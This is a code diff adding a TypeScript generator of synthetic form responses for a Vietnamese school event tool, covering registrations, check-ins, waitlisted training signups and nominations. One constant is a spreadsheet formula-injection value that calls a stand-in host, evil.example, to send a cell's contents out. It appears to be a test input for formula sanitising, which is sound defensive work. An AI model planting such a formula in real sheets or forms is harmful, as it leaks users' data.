@@ -1,0 +1,145 @@
+import { localDateTime, type LocalDateTime } from '../cell';
+import {
+  CONSENT_NO,
+  INTENT_PRESENT,
+  INTENT_REGISTER,
+  PLEDGE_CHOICES,
+  WHO_STAFF,
+} from '../forms/build-form-specs';
+import type { Answer, FormId, RawResponse } from '../forms/types';
+import { defaultActivities } from './activities';
+import { SEED_GOVERNING_BODY, SEED_WARD_ASSOCIATION } from './plan-2021';
+import { createPrng } from './prng';
+import { sampleRoster } from './roster';
+
+/**
+ * A deterministic week of form responses for the sample roster and the default 2021 plan,
+ * 01–07/10/2021: opening registrations and check-ins (the 50 % target met, about 60 % present),
+ * training signups where the talk HD10 (50 seats) fills up and gets a waitlist, a resubmission
+ * that drops HD10 (promoting the first waiting person), one trigger delivered twice, one
+ * answer with formula text, and nominations, one without consent. The same on every call.
+ */
+export interface SampleSubmission {
+  readonly formId: FormId;
+  readonly raw: RawResponse;
+  readonly source?: string;
+}
+
+const SEED = 20211005;
+const TRAINING = 'HD06';
+const TALK = 'HD10';
+const MODES = [`Tại Hội trường ${SEED_GOVERNING_BODY}`, 'Tại điểm cầu của trường', 'Trực tuyến tại nhà'];
+export const SAMPLE_HOSTILE_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")';
+
+const T = {
+  name: 'Họ và tên',
+  group: 'Tổ/nhóm',
+  intent: 'Bạn muốn',
+  mode: 'Hình thức tham dự',
+  who: 'Bạn là',
+  sessions: 'Buổi tập huấn / nói chuyện muốn tham gia',
+  pledges: 'Khóa học dài hạn bạn đăng ký theo học trong năm',
+} as const;
+
+export function sampleResponses(): SampleSubmission[] {
+  const prng = createPrng(SEED);
+  const roster = sampleRoster();
+  const activities = defaultActivities();
+  const label = (id: string): string => {
+    const activity = activities.find((a) => a.id === id);
+    return `[${id}] ${String(activity?.title ?? id)}`;
+  };
+  const out: SampleSubmission[] = [];
+  let n = 0;
+  const add = (
+    formId: FormId,
+    timestamp: LocalDateTime,
+    email: string,
+    answers: Record<string, Answer>,
+  ): SampleSubmission => {
+    n += 1;
+    const submission: SampleSubmission = {
+      formId,
+      raw: { responseId: `sample-${formId}-${String(n).padStart(3, '0')}`, timestamp, email, answers },
+      source: 'Mẫu',
+    };
+    out.push(submission);
+    return submission;
+  };
+  /** A minute on `day` between the hours, from the generator. */
+  const when = (day: number, fromHour: number, toHour: number): LocalDateTime => {
+    const minutes = prng.below((toHour - fromHour) * 60);
+    return localDateTime(2021, 10, day, fromHour + Math.floor(minutes / 60), minutes % 60);
+  };
+
+  const staff = roster.people.filter((p) => p.active === 'có');
+  // Opening: 26 register ahead (01–04/10), 23 check in on the morning of 05/10 (20 of them
+  // registered, 3 did not): 23/38 present, about 60 %.
+  staff.forEach((person, i) => {
+    const base = { [T.name]: String(person.name), [T.group]: String(person.group), [T.mode]: MODES[i % 3]! };
+    const email = i === 5 ? String(person.email).toUpperCase() : String(person.email);
+    if (i < 26) add('attendance', when(1 + (i % 4), 7, 17), email, { ...base, [T.intent]: INTENT_REGISTER });
+    if (i < 20 || (i >= 30 && i < 33))
+      add('attendance', when(5, 7, 9), email, { ...base, [T.intent]: INTENT_PRESENT });
+  });
+
+  // Training HD06 (04/10, 80 seats): 30 staff, some pledging longer courses.
+  staff.slice(0, 30).forEach((person, i) => {
+    const pledges =
+      i % 3 === 0 ? [PLEDGE_CHOICES[0]] : i % 3 === 1 ? [PLEDGE_CHOICES[1], PLEDGE_CHOICES[4]] : [];
+    add('training', when(1 + (i % 3), 8, 20), String(person.email), {
+      [T.name]: String(person.name),
+      [T.who]: WHO_STAFF,
+      [T.sessions]: [label(TRAINING)],
+      [T.pledges]: pledges,
+    });
+  });
+
+  // The talk HD10 (06/10, 50 seats): 53 parents sign up 01–04/10, so three wait.
+  const parents = roster.families.filter((f) => typeof f.email === 'string' && f.email !== '').slice(0, 53);
+  parents.forEach((family, i) => {
+    const sessions = i === 2 ? [label(TRAINING), label(TALK)] : [label(TALK)];
+    // Parent no. 3 signs up first thing (and later drops the talk, see below).
+    const timestamp = i === 2 ? localDateTime(2021, 10, 1, 7, 5) : when(1 + (i % 4), 7, 21);
+    const submission = add('training', timestamp, String(family.email), {
+      [T.name]: i === 7 ? SAMPLE_HOSTILE_NAME : String(family.parentName),
+      [T.who]: 'Phụ huynh',
+      [T.sessions]: sessions,
+      [T.pledges]: [],
+    });
+    // A form-submit trigger delivered twice: the same response id, right after.
+    if (i === 11) out.push(submission);
+  });
+  // Parent no. 3 cannot come to the talk after all: the first waiting parent gets the seat.
+  const dropper = parents[2]!;
+  add('training', localDateTime(2021, 10, 5, 19, 30), String(dropper.email), {
+    [T.name]: String(dropper.parentName),
+    [T.who]: 'Phụ huynh',
+    [T.sessions]: [label(TRAINING)],
+    [T.pledges]: [],
+  });
+
+  // Nominations of "Gia đình hiếu học": four families, one nominator withholds consent.
+  const consentYes = `Đồng ý chia sẻ đề cử này với ${SEED_WARD_ASSOCIATION}`;
+  [60, 75, 90, 105].forEach((k, i) => {
+    const nominator = roster.families[k]!;
+    const family = roster.families[k + 1]!;
+    add('nomination', when(2 + i, 9, 20), String(nominator.email), {
+      'Họ và tên người đề cử': String(nominator.parentName),
+      'Quan hệ với gia đình được đề cử': 'Phụ huynh cùng lớp',
+      'Họ tên người đại diện gia đình': String(family.parentName),
+      'Họ tên trẻ': String(family.child),
+      Lớp: String(family.className),
+      'Địa chỉ (trong phường)': String(family.address),
+      'Thành tích, tấm gương học tập của gia đình':
+        'Cả gia đình cùng tham gia lớp tin học cộng đồng; bé đọc sách cùng bố mẹ mỗi tối.',
+      'Liên kết minh chứng (ảnh, giấy khen…)': '',
+      'Đồng ý chia sẻ với Hội khuyến học phường': i === 2 ? CONSENT_NO : consentYes,
+    });
+  });
+
+  // Array.prototype.sort is stable: the duplicate stays right after its first delivery.
+  return out.sort((a, b) =>
+    a.raw.timestamp.iso < b.raw.timestamp.iso ? -1 : a.raw.timestamp.iso > b.raw.timestamp.iso ? 1 : 0,
+  );
+}
